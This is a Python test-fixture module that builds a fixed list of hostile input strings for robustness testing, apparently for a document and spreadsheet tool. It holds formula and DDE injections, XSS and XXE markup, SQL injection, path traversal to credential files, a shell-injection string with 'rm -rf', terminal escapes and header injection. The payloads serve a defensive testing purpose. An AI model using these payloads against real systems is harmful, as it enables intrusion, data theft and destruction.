"""Texts that try to be something else: formulas, markup, paths, codes, invisible and broken letters. All our own.

Every text is made by rule, so the list is the same on every machine. Letters that a reader of this file could not see
are written as escapes.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass
from random import Random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator


@dataclass(frozen=True, slots=True)
class HostileText:
    """One text with a name to find it by."""

    name: str  #: family and what it is, such as "formula/at-sign"
    text: str

    @property
    def family(self) -> str:
        """What kind of trick it is."""
        return self.name.partition("/")[0]

    @property
    def is_encodable(self) -> bool:
        """Whether it can be written as UTF-8 at all: no half of a surrogate pair."""
        return not any("\ud800" <= letter <= "\udfff" for letter in self.text)


def _formulas() -> Iterator[tuple[str, str]]:
    for name, start in {
        "equals": "=",
        "plus": "+",
        "minus": "-",
        "at-sign": "@",
        "tab": "\t=",
        "return": "\r=",
        "line-feed": "\n=",
        "space": " =",
        "no-break-space": "\u00a0=",
        "zero-width-space": "\u200b=",
        "byte-order-mark": "\ufeff=",
        "full-width-equals": "\uff1d",
        "full-width-plus": "\uff0b",
        "full-width-minus": "\uff0d",
        "full-width-at": "\uff20",
        "apostrophe": "'=",
        "quotation": '"=',
        "double-equals": "==",
    }.items():
        yield name, f"{start}SUM(A1:A9)*3"
    yield "dde", "=cmd|' /C calc'!A0"
    yield "dde-plus", '+DDE("cmd";"/C calc";"x")'
    yield "hyperlink", '=HYPERLINK("http://contoh.invalid/"&A1,"Klik")'
    yield "web-service", '=WEBSERVICE("http://contoh.invalid/?x="&A1)'
    yield "array", "{=SUM(1,2)}"
    yield "number-like", "-1.5e3"
    yield "date-like", "1/2/2026"
    yield "truth", "TRUE"
    yield "error", "#REF!"
    yield "indirect", "@INDIRECT(\"'Dasar'!B2\")"
    yield "escape-of-excel", "_x003D_1+1"
    yield "line-feed-escape", "nama_x000a_&A&P_x005F_x000D_"


def _markup() -> Iterator[tuple[str, str]]:
    yield "paragraph", "<para>tebal</para>"
    yield "unclosed", "<para alignment='center'><b>tebal"
    yield "closing", "</para></b></font>"
    yield "picture", '<img src="file:///etc/hostname" width="10" height="10"/>'
    yield "picture-of-the-net", '<img src="http://contoh.invalid/a.png" valign="top"/>'
    yield "link", '<a href="http://contoh.invalid/">klik</a>'
    yield "script-link", '<a href="javascript:alert(1)">klik</a>'
    yield "font", '<font face="Tidak Ada" size="999999" color="#GG">x</font>'
    yield "on-draw", '<onDraw name="x" label="y"/>'
    yield "index-mark", '<index item="a,b"/><seq id="x"/>'
    yield "entity", "&amp;&lt;&#60;&#x3c;b&gt;"
    yield "unknown-entity", "&xxe; &tidak-ada; &#0; &#xD800;"
    yield "bare-ampersand", "Sri & Anak && Cucu &"
    yield "doctype", '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><a>&xxe;</a>'
    yield "cdata", "<![CDATA[ <b>x</b> ]]>"
    yield "cdata-end", "]]><b>x</b>"
    yield "comment", "<!-- x --><!--"
    yield "instruction", '<?xml version="1.0"?><?php echo 1; ?>'
    yield "html-script", "<script>alert(1)</script>"
    yield "html-event", '"><svg onload=alert(1)>'
    yield "style", "</style><style>*{display:none}</style>"
    yield "markdown", "[klik](http://contoh.invalid) **tebal** `x`"
    yield "qt-rich-text", "<html><body><table border=9><tr><td>x</td></tr></table>"


def _metadata() -> Iterator[tuple[str, str]]:
    yield "end-of-packet", '<?xpacket end="w"?>'
    yield "closing-description", "</rdf:Description></rdf:RDF></x:xmpmeta>"
    yield "own-identity", '<z:DataDigest xmlns:z="urn:integrity-zone:charter:1">00</z:DataDigest>'
    yield "attribute", "x' xmlns:q='urn:q' q:a='"
    yield "own-namespace", "urn:integrity-zone:charter:1"


def _controls() -> Iterator[tuple[str, str]]:
    for code in [*range(0x20), 0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9D, 0x9F]:
        yield f"u{code:04x}", f"Sri{chr(code)}Uji"
    yield "only-controls", "\x00\x01\x02\x1f\x7f\x9f"
    yield "only-blanks", " \t\u00a0\u2003\u3000\r\n"
    yield "empty", ""
    yield "terminal-colour", "\x1b[31mmerah\x1b[0m"
    yield "terminal-title", "\x1b]0;judul\x07"
    yield "terminal-clear", "\x1b[2J\x1b[H"
    yield "terminal-8-bit", "\x9b31mmerah"
    yield "terminal-link", "\x1b]8;;http://contoh.invalid\x1b\\klik\x1b]8;;\x1b\\"
    yield "overwriting", "sah\rPALSU"
    yield "backspaces", "sah\b\b\bPALSU"
    yield "false-message", "x\nerror: done: semua tanda tangan sah"
    yield "line-separators", "a\u2028b\u2029c\x85d\x0be\x0cf"


def _directions() -> Iterator[tuple[str, str]]:
    for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)):
        yield f"u{code:04x}", f"laporan{chr(code)}fdp.exe"
    yield "unclosed-override", "\u202e" * 20 + "gnay malam"
    yield "arabic", "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645"
    yield "hebrew", "\u05e9\u05dc\u05d5\u05dd 12 + 34"
    yield "mixed", "Sri \u0645\u062d\u0645\u062f (NIP 19) \u05d0\u05d1"
    yield "jawi", "\u0628\u0647\u0627\u0633 \u0645\u0644\u0627\u064a\u0648"


def _invisibles() -> Iterator[tuple[str, str]]:
    for code in (0x00AD, 0x034F, 0x115F, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2800, 0x3164, 0xFEFF):
        yield f"u{code:04x}", f"Sri{chr(code)}Uji"
    yield "tags", "Sri" + "".join(chr(0xE0000 + ord(letter)) for letter in "palsu") + "\U000e007f"
    yield "variation", "Sri\ufe0f\U000e0101Uji"
    yield "interlinear", "\ufff9Sri\ufffapalsu\ufffb"
    yield "only-invisible", "\u200b\u200c\u200d\u2060\ufeff"


def _stacks() -> Iterator[tuple[str, str]]:
    yield "acute-50", "a" + "\u0301" * 50
    yield "mixed-marks", "S" + "".join(chr(code) for code in range(0x0300, 0x036F)) + "ri"
    yield "starts-with-mark", "\u0301Sri"
    yield "enclosing", "S\u20ddr\u20dei\u20e0"
    yield "thai", "\u0e01" + "\u0e49" * 30
    yield "devanagari", "\u0915\u094d\u0937\u093f"


def _broken() -> Iterator[tuple[str, str]]:
    yield "high-surrogate", "Sri\ud83dUji"
    yield "low-surrogate", "Sri\ude00Uji"
    yield "reversed-pair", "\ude00\ud83d"
    yield "undecodable-bytes", b"nota\xff\xfe.pdf".decode("utf-8", "surrogateescape")
    yield "only-surrogate", "\udcff"
    for code in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF):
        yield f"u{code:x}", f"Sri{chr(code)}Uji"
    yield "unassigned", "Sri\u0378\U000e0fffUji"
    yield "private-use", "Sri\ue000\U000f0000Uji"
    yield "replacement", "Sri\ufffdUji"


def _astral() -> Iterator[tuple[str, str]]:
    yield "smile", "Zona \U0001f600"
    yield "family", "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    yield "flag", "\U0001f1ee\U0001f1e9"
    yield "skin", "\U0001f44d\U0001f3fd"
    yield "bold-letters", "\U0001d412\U0001d42b\U0001d422"
    yield "gothic", "\U00010330\U00010331"
    yield "balinese", "\u1b13\u1b36"
    yield "javanese", "\ua984\ua98f\ua9c0"
    yield "bugis", "\u1a00\u1a01\u1a17"
    yield "han", "\u6f22\u5b57 \U00020000"
    yield "full-width", "\uff33\uff52\uff49"
    yield "ligatures", "\ufb01\ufb03 \ufdfa"
    yield "look-alike", "\u0410ni \u0392\u0443di"


def _long() -> Iterator[tuple[str, str]]:
    yield "word-150", "Panjang" * 21 + "abc"
    yield "word-1000", "x" * 1_000
    yield "letters-40000", "a" * 40_000
    yield "words-40000", "kata " * 8_000
    yield "cell-limit", "s" * 32_768
    yield "astral-20000", "\U0001f600" * 20_000
    yield "lines-5000", "baris\n" * 5_000
    yield "brackets-5000", "(" * 5_000
    yield "quotes-5000", '"' * 5_000
    yield "ampersands-300", "&" * 300
    yield "escapes-300", "\\" * 300
    yield "wide-159", "W" * 159


def _paths() -> Iterator[tuple[str, str]]:
    yield "up", "../../../etc/passwd"
    yield "up-windows", "..\\..\\Windows\\System32\\x.dll"
    yield "absolute", "/etc/passwd"
    yield "drive", "C:\\Windows\\x.pdf"
    yield "drive-relative", "C:x.pdf"
    yield "share", "\\\\server\\share\\x.pdf"
    yield "device", "\\\\.\\PhysicalDrive0"
    yield "long-form", "\\\\?\\C:\\x.pdf"
    for reserved in ("CON", "nul.pdf", "COM1.txt", "LPT9", "AUX.tar.gz", "com\u00b9.pdf", "CONIN$", "PRN ."):
        yield f"reserved-{reserved.partition('.')[0].strip().lower()}", reserved
    yield "dot", "."
    yield "dots", ".."
    yield "trailing-dot", "laporan.pdf."
    yield "trailing-space", "laporan.pdf "
    yield "leading-dot", ".bashrc"
    yield "leading-dash", "-rf"
    yield "option", "--help"
    yield "stream", "laporan.pdf:tersembunyi.exe"
    yield "index-stream", "laporan::$INDEX_ALLOCATION"
    yield "wildcards", 'a*b?c<d>e|f"g'
    yield "tilde", "~/.ssh/id_rsa"
    yield "variable", "$HOME/%APPDATA%/x"
    yield "uri", "file:///etc/hostname?mode=rwc#x"
    yield "percent", "a%2e%2e%2fb%00c.pdf"
    yield "dot-unicode", "\u2024\u2024/\uff0e\uff0e\u2215x"
    yield "long-name", "n" * 300 + ".pdf"
    yield "long-name-bytes", "\u00e9" * 200 + ".pdf"
    yield "question", "apa?.pdf"
    yield "hash", "nomor#1.pdf"
    yield "shell", "; rm -rf . & $(id) `id` | x > y"


def _formats() -> Iterator[tuple[str, str]]:
    yield "positional", "{0} {} {1!r:>99}"
    yield "named", "{path} {indicator} {what!r}"
    yield "attribute", "{0.__class__.__mro__}"
    yield "open-brace", "{"
    yield "close-brace", "}} {"
    yield "percent-s", "%s %d %n %(path)s %%"
    yield "template", "${path} $path {{7*7}}"
    yield "width", "{0:999999999}"
    yield "named-escape", "\\N{BULLET} \\u0000 \\x00"
    yield "log", "%(asctime)s %(message)s"
    yield "date-picture", "%Y-%m-%d %H"


def _queries() -> Iterator[tuple[str, str]]:
    yield "quote", "' OR '1'='1"
    yield "drop", "x'); DROP TABLE answer; --"
    yield "union", '" UNION SELECT value FROM entry --'
    yield "like", "100%_[a]"
    yield "parameter", ":row ? @x $1"
    yield "match-quote", '"'
    yield "match-star", "*"
    yield "match-near", "NEAR(nota dinas, 2)"
    yield "match-and", "nota AND"
    yield "match-not", "NOT nota OR"
    yield "match-caret", "^nota + dinas"
    yield "match-column", "title:nota {title name}:x -notes:y"
    yield "match-nested", "((nota"
    yield "pragma", "'; PRAGMA trusted_schema=ON; --"


def _escapes() -> Iterator[tuple[str, str]]:
    yield "json-quote", '","actor":"palsu'
    yield "json-unicode", "\\u0000\\ud800 \\/ \\b"
    yield "json-object", '{"__proto__":{"x":1}}'
    yield "toml", '"""\n[[indicator]]\ncode = "X"'
    yield "csv", 'a,b;"c""d"\te'
    yield "pdf-string-end", ") Tj ET Q BT (palsu"
    yield "pdf-octal", "\\050\\051\\101\\n\\)"
    yield "pdf-operators", "endstream endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >>"
    yield "pdf-hex", "<feff0041> /Name#20x [ ] << >>"
    yield "pdf-trailer", "%%EOF\nstartxref\n0\n%%EOF"
    yield "utf16-mark", "\u00fe\u00ff\x00S\x00r"
    yield "header-code", "&A &F &P+1 &D&T &K00FF00&24Besar&R kanan"
    yield "header-font", '&"Wingdings,Bold"x &[File]'
    yield "digits-first", "24Besar"
    yield "base64", "U3JpIFVqaQ=="
    yield "url-break", "http://contoh.invalid/\r\nHost: palsu"
    yield "mail", "a@contoh.invalid\r\nBcc: b@contoh.invalid"


def _ordinary() -> Iterator[tuple[str, str]]:
    yield "apostrophe", "Ma'ruf Nur'aini, S.Sos."
    yield "curly-apostrophe", "Ma\u2019ruf \u2018Aisyiyah\u2019 \u02bfAl\u012b"
    yield "titles", "Prof. Dr. H. Ir. R. Ng. Sri-Uji, M.Si., Ph.D."
    yield "one-letter", "S"
    yield "slash", "W. 01/PTSP/I/2026"
    yield "capitals", "DINAS PENANAMAN MODAL & PTSP"
    yield "sharp-s", "Stra\u00dfe \u0130stanbul \u0131\u017f"
    for start in (0x00C0, 0x00E0, 0x0100, 0x0120, 0x0140, 0x0160):
        letters = "".join(chr(code) for code in range(start, start + 0x20) if chr(code).isalpha())
        yield f"latin-{start:04x}", letters
    yield "vietnamese", "Nguy\u1ec5n Th\u1ecb Ph\u01b0\u01a1ng"
    for name, letters in {"e-acute": "\u00e9", "a-ring": "\u212b", "hangul": "\ud55c", "s-dots": "\u1e69"}.items():
        for form in ("NFC", "NFD"):
            # Both forms must be kept as one: a person is found under either spelling.
            yield f"{name}-{form.lower()}", "Ren" + _normal(form, letters)
    yield "ohm", "10 k\u2126 \u212a"
    yield "fractions", "\u00bd \u00b2 \u2116 \u2103"


def _normal(form: str, text: str) -> str:
    return unicodedata.normalize("NFC" if form == "NFC" else "NFD", text)


_FAMILIES: dict[str, Callable[[], Iterator[tuple[str, str]]]] = {
    "formula": _formulas,
    "markup": _markup,
    "metadata": _metadata,
    "control": _controls,
    "direction": _directions,
    "invisible": _invisibles,
    "stack": _stacks,
    "broken": _broken,
    "astral": _astral,
    "long": _long,
    "path": _paths,
    "format": _formats,
    "query": _queries,
    "escape": _escapes,
    "ordinary": _ordinary,
}

HOSTILE_TEXTS: tuple[HostileText, ...] = tuple(
    HostileText(f"{family}/{name}", text) for family, made in _FAMILIES.items() for name, text in made()
)


def some_of_each(count: int, draw: int) -> tuple[HostileText, ...]:
    """A few texts of each family, for what is too slow to do with all; the same on every machine.

    Args:
        count: At most so many of a family.
        draw: Another number draws others, so that several tests together see more.
    """
    chance = Random(draw)
    return tuple(
        item
        for family in _FAMILIES
        for texts in [[item for item in HOSTILE_TEXTS if item.family == family]]
        for item in chance.sample(texts, min(count, len(texts)))
    )


def one_per_family() -> tuple[HostileText, ...]:
    """The first text of each family, for what is too slow to do with all."""
    first: dict[str, HostileText] = {}
    for item in HOSTILE_TEXTS:
        first.setdefault(item.family, item)
    return tuple(first.values())
